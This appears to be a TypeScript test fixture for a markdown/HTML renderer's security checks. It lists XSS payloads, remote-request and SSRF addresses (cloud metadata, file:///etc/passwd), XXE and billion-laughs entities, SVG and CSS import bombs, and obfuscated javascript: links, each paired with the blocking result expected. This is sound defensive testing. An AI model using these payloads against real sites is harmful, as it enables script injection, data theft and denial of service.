/** HTML, CSS, SVG and addresses that want script, the network or the whole browser. */

import { attacks, each, type Input, titled, withFront } from './attack.js';

const requests = {
  image: '![a](http://HOST/a.png)',
  'an image without a scheme': '![a](//HOST/a.png)',
  'an image in capitals': '![a](HTTP://HOST/a.png)',
  'an image over ws': '![a](ws://HOST/a.png)',
  'an image over ftp': '![a](ftp://HOST/a.png)',
  'metadata of a cloud': '![a](http://169.254.169.254/latest/)',
  'a decimal address': '![a](http://2130706433/)',
  'an IPv6 address': '![a](http://[::1]/)',
  'an HTML image': '<img src="http://HOST/a.png" alt="a">',
};
const elements = {
  script: '<script>fetch("http://HOST/")</script>',
  'a script file': '<script src="http://HOST/a.js"></script>',
  iframe: '<iframe src="http://HOST/"></iframe>',
  'iframe of a file': '<iframe src="file:///etc/passwd"></iframe>',
  'iframe with srcdoc': '<iframe srcdoc="<img src=http://HOST/a>"></iframe>',
  object: '<object data="http://HOST/"></object>',
  embed: '<embed src="file:///etc/passwd">',
  frame: '<frame src="http://HOST/">',
  'a sheet': '<link rel="stylesheet" href="http://HOST/a.css">',
  preconnect: '<link rel="preconnect" href="http://HOST">',
  prefetch: '<link rel="prefetch" href="http://HOST/a">',
  'dns-prefetch': '<link rel="dns-prefetch" href="//HOST">',
  prerender: '<link rel="prerender" href="http://HOST/a">',
  icon: '<link rel="icon" href="http://HOST/a.ico">',
  refresh: '<meta http-equiv="refresh" content="0;url=http://HOST/">',
  'refresh without script': '<noscript><meta http-equiv="refresh" content="0;url=http://HOST/"></noscript>',
  base: '<base href="http://HOST/">',
  form: '<form action="http://HOST/"><button>a</button></form>',
  video: '<video src="http://HOST/a.mp4" poster="http://HOST/a.png"></video>',
  audio: '<audio src="http://HOST/a.mp3" autoplay></audio>',
  style: '<style>@import "http://HOST/a.css"; p { background: url(http://HOST/a) }</style>',
  applet: '<applet code="http://HOST/"></applet>',
  portal: '<portal src="http://HOST/"></portal>',
  template: '<template><img src="http://HOST/a"></template>',
  plaintext: '<plaintext>',
  textarea: '<textarea>a',
  xmp: '<xmp><img src=x></xmp>',
  'svg script': '<svg><script>fetch("http://HOST/")</script></svg>',
  'foreign object': '<svg><foreignObject><iframe src="http://HOST/"></iframe></foreignObject></svg>',
  'svg use': '<svg><use href="http://HOST/a.svg#a"/></svg>',
  'math link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
};
const handlers = {
  'a body': '<body onload="fetch(\'http://HOST/\')"><p>a</p></body>',
  'a page': '<html><head><title>x</title></head><body onpageshow="fetch(\'http://HOST/\')">a</body></html>',
  'a stray body': '<body onload="fetch(\'http://HOST/\')">',
  onerror: '<img src="a.png" alt="a" onerror="fetch(\'http://HOST/\')">',
  onload: '<p onload="x()">a</p>',
  onfocus: '<a href="#a" onfocus="x()" autofocus>a</a>',
  onclick: '<span onclick="x()">a</span>',
  ontoggle: '<details open ontoggle="x()">a</details>',
  ping: '<a href="https://a.example/" ping="http://HOST/">a</a>',
  background: '<table background="http://HOST/a"><tr><td>a</td></tr></table>',
  'style with an address': '<p style="background:url(http://HOST/a)">a</p>',
  'style with an expression': '<p style="width:expression(alert(1))">a</p>',
  srcset: '<img src="a.png" srcset="http://HOST/a 2x" alt="a">',
};
const schemes = {
  javascript: '[a](javascript:alert(1))',
  'javascript in capitals': '[a](JaVaScRiPt:alert(1))',
  'javascript with an entity': '[a](java&#115;cript:alert(1))',
  'javascript with a tab': '<a href="java&#9;script:alert(1)">a</a>',
  'javascript with a space before': '<a href=" javascript:alert(1)">a</a>',
  vbscript: '[a](vbscript:msgbox)',
  data: '[a](data:text/html;base64,PHNjcmlwdD4=)',
  file: '[a](file:///etc/passwd)',
  blob: '[a](blob:http://HOST/x)',
  'view-source': '[a](view-source:http://HOST/)',
  chrome: '[a](chrome://settings)',
  'an autolink': '<javascript:alert(1)>',
  'an area': '<map name="m"><area href="javascript:alert(1)" alt="a"></map>',
};
const bomb =
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' +
  Array.from(
    { length: 9 },
    (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`,
  ).join('') +
  ']>';
const svg = (inner: string, before = '') =>
  `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inner}</svg>`;
const uses = `<g id="u0"><rect width="1" height="1"/></g>${Array.from({ length: 30 }, (_, n) => `<g id="u${n + 1}">${`<use href="#u${n}"/>`.repeat(10)}</g>`).join('')}<use href="#u30"/>`;
/** References that multiply. */
const useBomb = svg(uses);
const drawings = {
  script: svg('<script>fetch("http://HOST/")</script>'),
  handler: svg('<rect width="9" height="9" onload="fetch(1)"/>'),
  'an image of the network': svg('<image href="http://HOST/a.png"/>'),
  'an image of a file': svg('<image xlink:href="file:///etc/passwd"/>'),
  'a sheet of the network': svg('<style>@import "http://HOST/a.css";</style>')
    .replace('<style>@import ', '<style>@import url(')
    .replace('";', '");'),
  'an entity of a file': svg(
    '<text y="9">&x;</text>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  ),
  'an entity bomb': svg('<text y="9">&j;</text>', bomb),
  'a feImage': svg(
    '<filter id="f"><feImage href="http://HOST/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
};
const sheets = {
  'an import of the network': '@import "http://HOST/a.css";',
  'an import of the network with url': '@import url(http://HOST/a.css) print;',
  'an image of the network': 'p { background: url(http://HOST/a.png) }',
  'a font of the network':
    '@font-face { font-family: x; src: url(http://HOST/a.woff2) } p { font-family: x }',
  'an image set': 'p { background: image-set("http://HOST/a.png" 1x) }',
};
const heavySheets = {
  'variables that double': `:root { --a0: aaaaaaaaaa; ${Array.from({ length: 40 }, (_, n) => `--a${n + 1}: var(--a${n}) var(--a${n});`).join(' ')} } p::before { content: var(--a40) }`,
  'a variable of itself': ':root { --a: var(--b); --b: var(--a) } p { color: var(--a) }',
  'an endless counter': 'p::before { content: counter(a, a) }',
  'open braces': '{'.repeat(5000),
  'open comments': '/*'.repeat(5000),
  'nested media': `${'@media print {'.repeat(500)} p { color: red } ${'}'.repeat(500)}`,
  'many selectors': `${'a '.repeat(2000)}{ color: red }`,
  'nested not': `${':not('.repeat(300)}p${')'.repeat(300)} { color: red }`,
  'a rule cut off': 'p { color: re',
  'a null': 'p { color: red\0 }',
};

/** Sheets that import four others each, to a depth of twelve: sixteen million. */
const importBomb = Object.fromEntries(
  Array.from({ length: 13 }, (_, n) => [
    n === 0 ? 'a.css' : `a${n}.css`,
    `${Array.from({ length: 4 }, (_, copy) => `@import "a${n + 1}.css?${copy}";\n@import "./${'./'.repeat(copy)}a${n + 1}.css";`).join('\n')}\n`,
  ]),
);
const imports: Readonly<Record<string, Input>> = {
  'imports that multiply': [withFront('theme: a.css'), { ...importBomb, 'a13.css': 'p { color: red }' }],
  'an import of itself': [withFront('theme: a.css'), { 'a.css': '@import "a.css"; p { color: red }' }],
  'imports in a circle': [
    withFront('theme: a.css'),
    { 'a.css': '@import "b.css";', 'b.css': '@import "a.css";' },
  ],
  'a thousand imports': [
    withFront('theme: a.css'),
    Object.fromEntries([
      ['a.css', Array.from({ length: 1000 }, (_, n) => `@import "b${n}.css";`).join('')],
      ...Array.from({ length: 1000 }, (_, n) => [`b${n}.css`, `p { order: ${n} }`] as const),
    ]),
  ],
};

/** Pages that ask, run or hang. */
export const pageAttacks = [
  ...attacks('network: image', ['image-remote', 'outside-root', 'image-missing'], each(requests, titled)),
  ...attacks('element', ['html-removed', 'request-blocked'], each(elements, titled)),
  ...attacks(
    'handler',
    [],
    each(handlers, (html) => titled(html)),
  ),
  ...attacks('scheme', ['link-scheme', 'html-removed', 'link-local-file'], each(schemes, titled)),
  ...attacks(
    'drawing',
    ['html-removed', 'request-blocked', 'image-unreadable'],
    each(drawings, (text) => [titled('![a](a.svg)'), { 'a.svg': text }]),
  ),
  ...attacks('drawing: heavy', ['image-unreadable'], {
    'uses that multiply': [titled('![a](a.svg)'), { 'a.svg': useBomb }],
  }),
  ...attacks(
    'sheet',
    ['request-blocked', 'theme-missing', 'outside-root'],
    each(sheets, (css) => [withFront('theme: a.css'), { 'a.css': css }]),
  ),
  ...attacks('sheet: imports', ['limit', 'theme-missing'], imports),
  ...attacks(
    'sheet: heavy',
    [],
    each(heavySheets, (css) => [withFront('theme: a.css'), { 'a.css': css }]),
  ),
];
